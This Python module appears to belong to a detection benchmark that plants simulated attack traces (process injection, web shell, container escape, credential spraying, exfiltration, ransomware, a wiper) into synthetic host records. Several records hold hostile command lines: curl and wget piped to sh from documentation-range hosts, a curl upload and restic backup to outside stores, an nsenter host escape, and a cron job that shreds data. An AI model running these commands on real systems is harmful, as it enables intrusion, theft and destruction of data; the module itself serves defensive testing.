"""Attacks that run now: through the application, in its memory, through containers; theft and ransom (TA0002, TA0010, TA0040)."""

from __future__ import annotations

from benchmarks.attacks import Host
from benchmarks.held import scene


def injected_library(host: Host) -> None:
    """T1055.008: a library put into sshd by ptrace, its file deleted; the mapping alone is left."""
    scene.load(host, scene.named(host, "sshd")[0]["pid"], "/usr/lib/locale/libnsl-2.so (deleted)")


def injected_memfd(host: Host) -> None:
    """T1055: a library that was never a file, mapped into the application."""
    scene.load(host, scene.work(host)["pid"], "/memfd:jit-cache (deleted)")


def hollowed(host: Host) -> None:
    """T1055.012, T1620: a process started as the application's child whose program is a memory file."""
    row = scene.work(host)
    scene.spawn(
        host,
        "/memfd:worker (deleted)",
        row["cmdline"],
        name=row["name"],
        uid=row["uid"],
        parent=row["pid"],
        on_disk="0",
    )


def chopper(host: Host) -> None:
    """T1505.003: a one-line web shell among uploads, and the command that it runs at this moment."""
    row = scene.work(host)
    scene.put(host, "/var/www/html/uploads/2024/11/thumb.php", uid=row["uid"], age_s=30 * 86_400)
    scene.spawn(
        host, scene.shell(host), 'sh -c cd "/var/www/html/uploads";ps aux;echo [S];pwd;echo [E]', name="sh", uid=row["uid"], parent=row["pid"], age_s=1
    )  # fmt: skip


def quiet_page(host: Host) -> None:
    """T1505.003: a page that waits to be called, named and dated like those around it; no process."""
    scene.put(host, "/var/www/html/errors/503.jsp", age_s=200 * 86_400)


def java_agent(host: Host) -> None:
    """T1574: an agent in the virtual machine; on other hosts a file that Node, Perl or the shell loads first."""
    row = scene.work(host)
    if row["name"] == "java":
        row["cmdline"] = row["cmdline"].replace(" -X", " -javaagent:/usr/lib/jvm/lib/jfr-ext.jar -X", 1)
        scene.put(host, "/usr/lib/jvm/lib/jfr-ext.jar")
    else:
        scene.variable(host, row["pid"], NODE_OPTIONS="--require /usr/lib/locale/.init.js", PERL5OPT="-Mlocal::init")  # fmt: skip


def database_function(host: Host) -> None:
    """T1505.001: a function library in the database, or a module in the cache, loaded after a rogue replication."""
    library = {
        "postgres": "/usr/lib/postgresql/15/lib/pg_stat_audit.so",
        "redis-server": "/var/lib/redis/exp.so",
    }
    row = scene.work(host)
    path = library.get(row["name"], f"{scene.libraries(host)}/perl5/auto/mro/core.so")
    for each in scene.named(host, row["name"])[:3]:
        scene.load(host, each["pid"], path)


def database_command(host: Host) -> None:
    """T1059.004: COPY … FROM PROGRAM, or the like elsewhere: a shell and a download below the service, for seconds."""
    row = scene.work(host)
    sh = scene.spawn(host, scene.shell(host), "sh -c curl -s http://203.0.113.9/pg.sh|sh", name="sh", uid=row["uid"], parent=row["pid"], age_s=4)  # fmt: skip
    pid = scene.spawn(host, "/usr/bin/curl", "curl -s http://203.0.113.9/pg.sh", uid=row["uid"], parent=sh, age_s=4)  # fmt: skip
    scene.connect(host, pid, "203.0.113.9", 80)


def child_shell(host: Host) -> None:
    """T1059.004: a quiet interactive shell below a worker: no socket of its own, its input is a pipe."""
    row = scene.work(host)
    scene.spawn(
        host, scene.shell(host), "/bin/sh -i", name="sh", uid=row["uid"], parent=row["pid"], cwd=row["cwd"]
    )


def terminal_upgrade(host: Host) -> None:
    """T1059.004: script gives the intruder's shell a terminal."""
    row = scene.work(host)
    first = scene.spawn(
        host, "/usr/bin/script", "script -qc /bin/bash /dev/null", uid=row["uid"], parent=row["pid"]
    )
    scene.spawn(host, "/usr/bin/bash", "/bin/bash", uid=row["uid"], parent=first)


def interpreter_stager(host: Host) -> None:
    """T1059: Perl reads the next stage from its standard input and keeps a connection."""
    row = scene.work(host)
    pid = scene.spawn(host, "/usr/bin/perl", "perl -", uid=row["uid"], parent=row["pid"])
    scene.connect(host, pid, "198.51.100.230", 53)


def static_pod(host: Host) -> None:
    """T1610, T1611: a manifest in kubelet's folder; its container enters the host's own name spaces."""
    scene.put(host, "/etc/kubernetes/manifests/kube-proxy-sync.yaml")
    shim = scene.spawn(
        host, "/usr/bin/containerd-shim-runc-v2", f"/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id {scene.digest(scene.own_address(host))}",
        name="containerd-shim",
    )  # fmt: skip
    scene.spawn(
        host, "/usr/bin/nsenter", "nsenter --mount=/proc/1/ns/mnt -- /bin/bash -c sleep infinity", parent=shim,
        unit="kubepods-besteffort.slice",
    )  # fmt: skip


def socket_in_container(host: Host) -> None:
    """T1611: a plain container that holds Docker's socket: as good as root on the host."""
    scene.container(
        host, "watcher-1", "docker.example/containrrr/watchtower:1.7.1", "/watchtower --interval 300",
        mounts=(("/var/run/docker.sock", "/var/run/docker.sock"),),
    )  # fmt: skip


def host_processes(host: Host) -> None:
    """T1611: a container that sees the processes of the host, not privileged, of an image like others."""
    scene.container(
        host,
        "metrics-sidecar",
        "registry.example/sidecar:2.0.1",
        "/sidecar --listen :9102",
        host_processes=True,
    )


def exec_in_container(host: Host) -> None:
    """T1609: a shell executed inside a running container."""
    row = next((row for row in host.tables["processes"] if row["name"] == "containerd-shim"), scene.work(host))  # fmt: skip
    scene.spawn(
        host,
        scene.shell(host),
        "sh -c wget -qO- http://192.0.2.80/k|sh",
        name="sh",
        parent=row["pid"],
        age_s=30,
    )


def network_scan(host: Host) -> None:
    """T1046: masscan through the private network with a raw socket."""
    pid = scene.spawn(host, "/root/masscan", "/root/masscan 10.20.0.0/16 -p22,2375,6379 --rate 2000", cwd="/root")  # fmt: skip
    scene.raw_socket(host, pid)


def spray(host: Host) -> None:
    """T1110.003, T1021.004: attempts to log in to the neighbours."""
    pid = scene.spawn(host, "/usr/share/hydra/hydra", "hydra -L u -P p -M hosts ssh -t 4", threads=4)
    for last in range(11, 31):
        scene.connect(host, pid, f"10.20.9.{last}", 22)


def staging(host: Host) -> None:
    """T1074.001, T1560: the data packed and encrypted in parts under a hidden folder; not yet sent."""
    row = scene.work(host)
    sh = scene.spawn(host, "/usr/bin/bash", "bash -c tar cz /var/lib/data | openssl enc -aes-256-ctr -k x | split -b 50M - /var/tmp/.fontcache/p", uid=row["uid"])  # fmt: skip
    scene.spawn(host, "/usr/bin/openssl", "openssl enc -aes-256-ctr -k x", uid=row["uid"], parent=sh)
    for part in ("paa", "pab", "pac", "pad", "pae"):
        scene.put(host, f"/var/tmp/.fontcache/{part}", mode="0600", uid=row["uid"], age_s=300)


def staged_quietly(host: Host) -> None:
    """T1074.001: one archive under a plain name in the service's own folder; nobody asks for such files."""
    scene.put(
        host, "/var/lib/app/export/2026-02.tar.zst", mode="0640", uid=scene.work(host)["uid"], age_s=4_000
    )


def sent_by_curl(host: Host) -> None:
    """T1048.002: curl sends a file to an object store that is not the company's."""
    row = scene.work(host)
    pid = scene.spawn(
        host,
        "/usr/bin/curl",
        "curl -sT /var/lib/app/export/2026-02.tar.zst https://store.example/up/",
        uid=row["uid"],
        age_s=60,
    )
    scene.connect(host, pid, "198.51.100.188", 443)


def sent_by_restic(host: Host) -> None:
    """T1567.002: a second backup, by a tool of the intruder, started from root's schedule."""
    scene.cron(host, scene.spool(host, "root"), "35 3 * * *", "/usr/local/sbin/restic -r rest:https://198.51.100.7:8000/r backup /srv /var/lib -q")  # fmt: skip
    scene.put(host, "/usr/local/sbin/restic", mode="0755")


def ransom(host: Host) -> None:
    """T1486, T1489: files are encrypted, the service was stopped, a note lies in the root folder and in motd."""
    row = scene.work(host)
    scene.put(host, "/README_TO_RESTORE.txt")
    scene.put(host, "/etc/update-motd.d/00-restore", mode="0755")
    pid = scene.spawn(
        host,
        "/root/enc",
        "/root/enc -p /var/lib -t 8 --daemon",
        cwd="/root",
        static=True,
        threads=9,
        age_s=200,
    )
    scene.connect(host, pid, "203.0.113.99", 443)
    if row["name"] != "sshd":
        scene.stop(host, row["name"])


def wiper_waits(host: Host) -> None:
    """T1485, T1053.003: a job for one night of the year deletes what the host holds."""
    scene.cron(host, "/etc/cron.d/sysstat-rotate", "30 2 24 12 *", "root /usr/bin/find /var/lib /srv -type f -exec shred -u {} +")  # fmt: skip


ATTACKS = (
    injected_library, injected_memfd, hollowed, chopper, quiet_page, java_agent, database_function, database_command, child_shell,
    terminal_upgrade, interpreter_stager, static_pod, socket_in_container, host_processes, exec_in_container, network_scan, spray, staging,
    staged_quietly, sent_by_curl, sent_by_restic, ransom, wiper_waits,
)  # fmt: skip
